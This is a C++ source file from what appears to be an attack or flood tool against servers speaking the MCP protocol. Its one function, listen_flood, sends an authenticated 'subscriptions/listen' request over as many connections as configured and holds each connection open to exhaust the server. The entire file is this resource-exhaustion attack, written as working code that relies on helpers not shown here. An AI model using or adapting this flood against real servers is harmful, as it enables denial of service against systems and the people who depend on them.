// Subscriptions of 2026-07-28 that stay open, as many as there are connections.
#include "attack/clients.hpp"

namespace attack {

void listen_flood(Field& field) {
    const std::string body =
        message("subscriptions/listen", R"("notifications":{"toolsListChanged":true},"_meta":{)" + modern_meta() + "}");
    const std::string bytes =
        post(body, "MCP-Protocol-Version: 2026-07-28\r\nMcp-Method: subscriptions/listen\r\n" + field.credentials);
    for (int i = 0; i < field.connections && !field.is_over(); ++i) {
        Wire wire = field.connect();
        if (wire.send(bytes, field.until)) field.count();
        field.keep(std::move(wire));
    }
}

}  // namespace attack
